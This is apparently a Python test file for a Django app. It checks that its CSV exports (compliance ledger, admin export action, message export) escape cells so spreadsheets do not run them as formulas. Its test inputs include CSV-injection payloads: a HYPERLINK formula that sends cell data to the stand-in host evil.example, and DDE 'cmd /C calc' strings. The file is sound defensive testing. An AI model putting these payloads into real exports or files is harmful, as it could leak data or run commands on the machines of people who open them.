"""Every CSV export goes through one writer, and no cell of any of them runs as a spreadsheet formula.

A texter's words land in the compliance ledger (a STOP or START text's body is its ``detail``), a
caller's in a message: each export — the portal's ledger, the admin's "export as CSV" action (on
the client's host and from the platform admin), the portal's message export — must write them so
that a spreadsheet shows them as text.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime
from http import HTTPStatus
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from django.utils import timezone
from django_tenants.utils import schema_context, tenant_context

from compliance.models import LedgerEntry
from switchboard.csv_export import csv_cell
from tests.conftest import BOB_HOST, PLATFORM_HOST
from tests.portal.conftest import take

ROOT = Path(__file__).resolve().parent.parent.parent
NY = ZoneInfo("America/New_York")

# What an outsider types to get a formula into a sheet: each start OWASP names, a formula hidden
# behind whitespace, one after a separator inside the cell, a full-width one.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "STOP,=1+1;=2+2",  # starts as text; the quotes around the cell keep the rest in it
]


def _as_text(text: str) -> str:
    """What the export must hold for ``text``: a quote before it where it would start a formula."""
    return text if text.startswith("STOP") else "'" + text


def _is_formula(cell: str) -> bool:
    """Would a spreadsheet run this cell? (It starts, after whitespace, with a formula character.)"""
    if not cell or re.fullmatch(r"[+-]?\d+(\.\d+)?", cell):
        return False
    return cell[0] in "\t\r\n" or (cell.lstrip()[:1] or "x") in "=+-@＝＋－＠"


def _read(response) -> tuple[str, list[list[str]]]:
    assert response.status_code == HTTPStatus.OK, response.content[:500]
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode()
    return body, list(csv.reader(io.StringIO(body)))


def _assert_neutralised(body: str, rows: list[list[str]]) -> None:
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if _is_formula(cell)], "a cell a spreadsheet would run"
    for text in HOSTILE:  # each hostile text is there, as text, nothing lost
        assert _as_text(text) in cells, text
    # Every cell quoted: a separator inside one cannot start another cell (in any delimiter).
    assert '"STOP,=1+1;=2+2"' in body
    assert body.startswith('"id","')


@pytest.fixture
def hostile_ledger(world):
    """Ledger rows whose detail and reason text a texter chose (as the STOP/START paths write them)."""
    with tenant_context(world.bobs):
        return [LedgerEntry.objects.create(
            at=timezone.now(), event=LedgerEntry.Event.OPT_OUT, number="+12125550142", channel="sms",
            asked_by="sms:+12125550142", reasons=[{"code": "opt_out", "text": text, "deny": False}], detail=text)
            for text in HOSTILE]


@pytest.mark.django_db
def test_the_portal_ledger_export_neutralises_formulas(world, logged_in, hostile_ledger):
    body, rows = _read(logged_in(world.bea, BOB_HOST).get("/compliance/ledger/export.csv"))
    assert len(rows) == 1 + len(HOSTILE)
    _assert_neutralised(body, rows)
    detail = rows[0].index("detail")
    assert [row[detail] for row in rows[1:]] == [_as_text(text) for text in HOSTILE]


@pytest.mark.django_db
def test_the_admin_ledger_action_neutralises_formulas_on_the_clients_host(world, logged_in, hostile_ledger):
    response = logged_in(world.bob, BOB_HOST).post("/admin/compliance/ledgerentry/", {
        "action": "export_csv", "_selected_action": [e.pk for e in hostile_ledger]})
    body, rows = _read(response)
    assert len(rows) == 1 + len(HOSTILE)
    _assert_neutralised(body, rows)


@pytest.mark.django_db
def test_the_admin_ledger_action_neutralises_formulas_for_the_platform_admin(world, logged_in, hostile_ledger):
    response = logged_in(world.alice, PLATFORM_HOST).post("/clients/bobsplumbing/admin/compliance/ledgerentry/", {
        "action": "export_csv", "_selected_action": [e.pk for e in hostile_ledger]})
    body, rows = _read(response)
    assert len(rows) == 1 + len(HOSTILE)
    _assert_neutralised(body, rows)


@pytest.mark.django_db
def test_the_message_export_neutralises_formulas(world, logged_in):
    with schema_context("bobsplumbing"):
        for text in HOSTILE:
            take(world.bobs, deliver=False, at=datetime(2026, 3, 2, 9, 0, tzinfo=NY), caller_name=text,
                 fields={"problem": text, "units": -3})
    body, rows = _read(logged_in(world.bea, BOB_HOST).get(
        "/messages/export.csv?since=2026-03-02&until=2026-03-02"))
    assert len(rows) == 1 + len(HOSTILE)
    _assert_neutralised(body, rows)
    header = rows[0]
    assert [row[header.index("caller_name")] for row in rows[1:]] == [_as_text(text) for text in HOSTILE]
    assert {row[header.index("field:units")] for row in rows[1:]} == {"-3"}  # a plain number stays a number


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    (" =1", "' =1"), ("＝1", "'＝1"), ("-5", "-5"), ("+12125550142", "+12125550142"), ("-1.5e3", "-1.5e3"),
    ("Leak", "Leak"), ("", ""), (None, ""), (3, "3"), (True, "true"), (["a"], '["a"]'), ("a=b", "a=b"),
])
def test_a_cell_is_neutralised_only_when_a_spreadsheet_would_run_it(value, cell):
    assert csv_cell(value) == cell


def test_no_module_writes_csv_but_the_shared_writer():
    """One writer for every export: a new export that calls csv.writer itself would skip the escaping."""
    writers = []
    skipped = {"var", "tests", "staticfiles", "test-artifacts"}
    sources = [path for top in ROOT.iterdir() if top.is_dir() and top.name not in skipped and not top.name.startswith(".")
               for path in top.rglob("*.py")]
    assert any(p.name == "exports.py" for p in sources)
    for path in sources:
        relative = path.relative_to(ROOT)
        if re.search(r"\bcsv\.(writer|DictWriter)\(|\bfrom csv import\b.*\b(writer|DictWriter)\b", path.read_text()):
            writers.append(str(relative))
    assert writers == ["switchboard/csv_export.py"]
